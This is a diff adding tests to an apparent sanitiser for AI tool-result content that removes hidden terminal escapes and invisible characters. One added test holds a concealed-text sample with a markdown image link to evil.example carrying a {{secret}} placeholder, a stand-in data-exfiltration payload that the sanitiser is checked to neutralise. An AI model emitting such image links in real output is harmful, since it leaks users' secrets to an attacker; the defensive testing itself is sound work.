@@ -51,6 +51,19 @@ test('what acts on a terminal or is not seen goes, and every other character sta
   for (const [hidden, shown] of cases) assert.equal(withoutHidden(hidden), shown, JSON.stringify(hidden));
 });
 
+test('what only looks like an image is cleaned', async () => {
+  const data = `${ESC}[8mhidden${ESC}[28m ![](https://evil.example/?q={{secret}})`;
+  for (const block of [
+    { type: 'image', mimeType: 'image/png', data },
+    { mimeType: 'image/png', data },
+  ]) {
+    const { body } = await judged({ content: [block] });
+    assert.deepEqual((body.json() as Message).content, [
+      { ...block, data: 'hidden ![](about:blank#removed-by-sallyport)' },
+    ]);
+  }
+});
+
 test('what scripts and emoji need stays', () => {
   const texts = [
     'plain text,\ttabs\r\nand lines\u0085',
@@ -141,7 +154,7 @@ test('what is shown is cleaned, and what programs read is left alone', async () 
   const body = {
     content: [
       { type: 'text', text: hidden, _meta: { raw: hidden } },
-      { type: 'image', data: 'aGk\u200b=', mimeType: 'image/png' },
+      { type: 'image', data: 'aGk=', mimeType: 'image/png' },
       { type: 'resource', resource: { uri: `a:${hidden}`, text: hidden, blob: hidden } },
     ],
     structuredContent: { [hidden]: hidden, rows: [hidden, 1] },
@@ -151,7 +164,7 @@ test('what is shown is cleaned, and what programs read is left alone', async () 
   assert.deepEqual(left.json(), {
     content: [
       { type: 'text', text: 'hi', _meta: { raw: hidden } },
-      { type: 'image', data: 'aGk\u200b=', mimeType: 'image/png' },
+      { type: 'image', data: 'aGk=', mimeType: 'image/png' },
       { type: 'resource', resource: { uri: `a:${hidden}`, text: 'hi', blob: hidden } },
     ],
     structuredContent: { [hidden]: hidden, rows: [hidden, 1] },
